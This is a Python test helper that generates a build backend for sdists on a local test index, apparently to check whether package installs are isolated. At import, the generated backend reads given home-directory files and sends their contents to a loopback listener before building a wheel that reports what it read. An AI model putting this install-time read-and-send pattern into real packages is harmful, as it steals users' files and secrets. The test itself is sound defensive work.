"""A build backend for tests/loopback_pypi.py's sdists that builds for real: at import it reads the files it is
told to (the caller's home), tries to send them to a listener that is not the index, and then builds a wheel of
the demo server whose `demo_server/found.txt` says what it could read and whether the listener answered."""

from __future__ import annotations

from pathlib import Path

from loopback_pypi import SERVER_MODULE


def reporting_backend(port: int, reads: list[Path]) -> str:
    return f'''import base64, hashlib, io, os, socket, zipfile

READ = []
for path in {[str(p) for p in reads]!r}:
    try:
        with open(path) as handle:
            READ.append(path + ": " + handle.read())
    except OSError as error:
        READ.append(path + ": unreadable (" + type(error).__name__ + ")")
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as sock:
        sock.sendall(("home:" + "|".join(READ) + "\\n").encode())
    REACHED = "reached the listener"
except OSError as error:
    REACHED = "no network: " + type(error).__name__

SERVER = {SERVER_MODULE!r}


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    info = "demo_server-1.0.1.dist-info"
    files = {{
        "demo_server/__init__.py": b"",
        "demo_server/script0.py": SERVER.encode(),
        "demo_server/found.txt": (REACHED + "\\n" + "\\n".join(READ)).encode(),
        info + "/METADATA": b"Metadata-Version: 2.1\\nName: demo-server\\nVersion: 1.0.1\\n",
        info + "/WHEEL": b"Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        info + "/entry_points.txt": b"[console_scripts]\\ndemo-server = demo_server.script0:main\\n",
    }}
    rows = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{{path}},sha256={{digest}},{{len(data)}}")
    rows.append(info + "/RECORD,,")
    files[info + "/RECORD"] = ("\\n".join(rows) + "\\n").encode()
    name = "demo_server-1.0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, data in files.items():
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), data)
    return name
'''
